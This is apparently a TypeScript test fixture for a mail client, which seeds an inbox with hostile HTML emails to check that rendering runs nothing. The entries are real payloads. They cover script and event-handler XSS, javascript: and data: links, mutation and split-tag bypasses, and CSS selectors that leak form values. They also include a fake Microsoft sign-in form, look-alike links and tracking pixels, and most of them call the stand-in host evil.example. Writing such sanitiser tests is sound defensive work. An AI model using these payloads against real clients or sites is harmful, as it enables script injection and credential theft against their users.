// HTML that must do nothing at all when it is shown. If any of it acts, it calls https://evil.example or sets
// window.__pwned: both are what tests watch for.

import { compose, type SeedMail, type Stage } from './compose'

const EVIL = 'https://evil.example'
const ACT = 'window.__pwned=1'

const page = (body: string, head = '') => `<html><head>${head}</head><body>${body}</body></html>`
const say = (text: string) => `<p>${text}</p>`

export const HOSTILE: readonly { name: string; html: string }[] = [
  {
    name: 'a script',
    html: page(`${say('Plain script.')}<script>${ACT}</script><script src="${EVIL}/s.js"></script>`),
  },
  {
    name: 'event handlers',
    html: page(
      `<img src="x" onerror="${ACT}"><body onload="${ACT}"><a href="#" onclick="${ACT}" onmouseover="${ACT}">hover</a><details open ontoggle="${ACT}"><summary>x</summary></details>`,
    ),
  },
  {
    name: 'script addresses',
    html: page(
      `<a href="javascript:${ACT}">a</a><a href=" jAvA\tscript:${ACT}">b</a><a href="data:text/html,<script>${ACT}</script>">c</a><a href="vbscript:x">d</a><iframe src="javascript:${ACT}"></iframe>`,
    ),
  },
  {
    name: 'split tags',
    html: page(`<scr<script>ipt>${ACT}</scr</script>ipt><img """><script>${ACT}</script>"><<script>${ACT}//<</script>`),
  },
  {
    name: 'style expressions',
    html: page(
      `<div style="width:expression(${ACT}); background:url(javascript:${ACT}); -moz-binding:url(${EVIL}/x.xml#a); behavior:url(${EVIL}/x.htc)">styled</div>`,
      `<style>@import "${EVIL}/i.css"; body{background:url("${EVIL}/b.png")} li{list-style-image:url(${EVIL}/l.png)} input[value^="a"]{background:url(${EVIL}/leak?a)} @font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`,
    ),
  },
  {
    name: 'a refresh',
    html: page(
      say('You will be sent away.'),
      `<meta http-equiv="refresh" content="0;url=${EVIL}/r"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    ),
  },
  {
    name: 'a password form',
    html: page(
      `<form action="${EVIL}/login" method="post"><input name="user"><input type="password" name="pw" autofocus onfocus="${ACT}"><button formaction="${EVIL}/b">Sign in to Microsoft</button></form>`,
    ),
  },
  {
    name: 'svg',
    html: page(
      `<svg onload="${ACT}"><script>${ACT}</script><a xlink:href="javascript:${ACT}"><text x="20" y="20">x</text></a><image href="${EVIL}/i.svg"/><use href="${EVIL}/u.svg#a"/><animate attributeName="href" values="javascript:${ACT}"/><foreignObject><iframe srcdoc="<script>${ACT}</script>"></iframe></foreignObject></svg>`,
    ),
  },
  {
    name: 'mathml',
    html: page(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;"></mglyph></table></mtext><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${ACT}">x</maction></math>`,
    ),
  },
  {
    name: 'mutation',
    html: page(
      `<noscript><p title="</noscript><img src=x onerror=${ACT}>"></noscript><form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${ACT} src=1>"></textarea>`,
    ),
  },
  {
    name: 'a base',
    html: page(`<a href="inbox">Back to the inbox</a><img src="logo.png">`, `<base href="${EVIL}/" target="_top">`),
  },
  {
    name: 'an overlay',
    html: page(
      `<div style="position:fixed; inset:0; z-index:2147483647; background:#fff"><h1>Your session has ended</h1><a href="${EVIL}/login">Sign in again</a></div>`,
    ),
  },
  {
    name: 'a covering link',
    html: page(
      `<a href="${EVIL}/c" style="position:absolute; top:-500px; left:0; width:5000px; height:5000px; opacity:0">.</a>${say('A link lies over everything.')}`,
    ),
  },
  {
    name: 'frames and objects',
    html: page(
      `<iframe src="${EVIL}/f"></iframe><object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.pdf"><applet code="x"></applet><frameset><frame src="${EVIL}"></frameset>`,
    ),
  },
  {
    name: 'prefetch links',
    html: page(
      say('Links that load by themselves.'),
      `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="${EVIL}/p.png"><link rel="prerender" href="${EVIL}/r"><link rel="icon" href="${EVIL}/i.ico">`,
    ),
  },
  {
    name: 'media',
    html: page(
      `<video src="${EVIL}/v.mp4" poster="${EVIL}/v.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio><picture><source srcset="${EVIL}/w.webp"><img src="${EVIL}/w.png" loading="eager"></picture><track src="${EVIL}/t.vtt"><input type="image" src="${EVIL}/in.png"><table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`,
    ),
  },
  {
    name: 'names of our own',
    html: page(
      `<form name="body"><input name="parentNode"><input name="attributes"></form><a id="__NEXT_DATA__" name="location" href="${EVIL}">x</a><img name="cookie"><div id="root">Replaced</div>`,
    ),
  },
  {
    name: 'styles that leak out',
    html: page(
      say('The page outside must look as before.'),
      '<style>*{display:none!important} body,html,:root{background:red!important} :host{color:red} button{visibility:hidden}</style>',
    ),
  },
  { name: 'deep nesting', html: page(`${'<div>'.repeat(4000)}deep${'</div>'.repeat(4000)}`) },
  {
    name: 'broken markup',
    html: `<html><body><table><tr><td><b><i>never closed <p>and <a href="${EVIL}/x" title='>"> odd <!-- --!><img src=x onerror=${ACT}> --> <![CDATA[ x ]]> <? php ?> </body`,
  },
  {
    name: 'look-alike links',
    html: page(
      `<a href="https://login.microsoftonline.com.evil.example/">https://login.microsoftonline.com/</a> <a href="https://xn--80ak6aa92e.example/">аррӏе.example</a> <a href="https://user:pw@evil.example/">bank.example</a>`,
    ),
  },
  {
    name: 'odd characters',
    html: page(
      `<img/src="x"/onerror=${ACT}>\u0000<scr\u0000ipt>${ACT}</script><a href="&#106;&#97;vascript&colon;${ACT}">x</a><p>\u2028\u2029\ufeff\ud83d</p>`,
    ),
  },
  {
    name: 'templates',
    html: page(
      `<template><script>${ACT}</script></template><slot name="x"></slot><x-widget is="y"></x-widget>{{constructor.constructor('${ACT}')()}}<dialog open>Shown at once</dialog><marquee onstart="${ACT}">m</marquee>`,
    ),
  },
  {
    name: 'a call home',
    html: page(
      `<a href="https://evil.example" ping="${EVIL}/ping">x</a><button popovertarget="p">p</button><img src="//evil.example/pixel.gif?who=me" width=1 height=1><img src="http://127.0.0.1:4000/_control/state"><img srcset="${EVIL}/1x.png 1x">`,
    ),
  },
]

export function hostileMail(stage: Stage, index: number): SeedMail {
  const hostile = HOSTILE[index % HOSTILE.length]
  if (!hostile) throw new Error('no hostile mail')
  const at = stage.moment()
  return {
    content: compose(stage, `hostile${index}`, {
      subject: `Please read: ${hostile.name}`,
      from: { name: 'Security Desk', address: `desk${index}@evil.example` },
      at,
      body: hostile.html,
    }),
    place: index % 6 === 5 ? 'junkemail' : 'inbox',
    received: at,
    isRead: index % 2 === 0,
    focused: index % 2 === 0,
  }
}
